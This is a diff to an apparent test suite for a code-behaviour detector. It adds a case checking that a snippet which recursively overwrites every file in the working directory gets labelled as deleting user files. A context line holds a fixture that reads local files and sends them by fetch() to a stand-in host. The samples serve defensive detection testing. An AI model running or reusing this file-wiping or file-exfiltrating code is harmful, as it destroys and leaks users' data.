@@ -39,6 +39,17 @@ describe('files', () => {
     );
   });
 
+  it('are lost also where somebody asks for it, if each gets the same text and none is asked its name', () => {
+    const write = (text: string, asked = ''): readonly string[] =>
+      behavioursOf(
+        `const fill = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { ${asked} const p = path.join(d, e.name); if (e.isDirectory()) fill(p); else fs.writeFileSync(p, ${text}); } };
+         exports.run = () => fill(process.cwd());`,
+      );
+    assert.deepEqual([...new Set(write(`'gone'`))], ['deletes-user-files call']);
+    assert.deepEqual(write(`'gone'`, `if (!e.name.endsWith('.log')) continue;`), []);
+    assert.deepEqual(write(`'// licence\\n' + fs.readFileSync(p, 'utf8')`), []);
+  });
+
   it('are known by what is asked of their names', () => {
     const code = (asked: string) =>
       `for (const n of fs.readdirSync(process.cwd()).filter((n) => ${asked})) fetch('https://collect.invalid/' + fs.readFileSync(path.join(process.cwd(), n)));`;
